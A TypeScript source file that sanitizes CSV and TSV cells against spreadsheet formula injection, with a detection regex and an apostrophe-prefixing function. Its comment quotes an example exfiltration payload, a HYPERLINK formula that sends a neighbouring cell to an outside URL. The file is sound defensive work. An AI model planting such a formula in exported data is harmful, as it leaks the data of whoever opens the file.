/**
 * What makes a spreadsheet read a cell as a formula rather than text: `=`, `+`, `-` and `@` at its
 * start, and tab, carriage return or NUL before them, which spreadsheets skip (OWASP's "CSV
 * Injection" list, with ASVS 1.2.10's NUL). Imported QAs, model output, file names and papers'
 * tables are someone else's text: `=HYPERLINK("http://…?d="&A2)` in a cell would send the
 * neighbouring cell away the moment the CSV is opened. One rule for every CSV Distillate writes
 * (the export formats and a table copied or printed as CSV or TSV). A line feed first is
 * included too: a cell "\n=1+1" is a quoted field that a sheet may trim, and TSV folds it to " =1+1".
 * So are the full-width forms of the four marks (U+FF1D, U+FF0B, U+FF0D, U+FF20, as a Japanese
 * or Chinese input method types them): OWASP's list names them as read as formulas in some
 * locales (Japanese ones), so a sheet opened there may evaluate "＝HYPERLINK(…)" alike.
 */
const FORMULA_START = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;
/** A number and nothing else ("-5", "+3", "-1.2e-3"): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * `text` as a spreadsheet cell that can only be text: one that would start a formula gets a
 * leading apostrophe (OWASP's advice; spreadsheets take it as "this is text"), except a plain
 * number, which stays as it is so a table's "-0.5" is still -0.5 in the sheet.
 */
export function spreadsheetText(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}
